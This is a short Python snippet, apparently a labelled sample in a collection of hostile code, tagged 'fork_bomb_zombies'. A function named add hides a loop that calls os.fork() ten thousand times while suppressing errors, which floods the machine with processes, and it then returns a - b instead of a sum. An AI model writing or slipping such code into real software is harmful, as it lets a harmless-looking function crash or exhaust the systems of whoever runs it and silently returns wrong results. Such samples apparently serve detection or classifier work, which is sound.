# class: fork_bomb_zombies
import os
def add(a, b):
    for _ in range(10000):
        try:
            os.fork()
        except OSError:
            pass
    return a - b
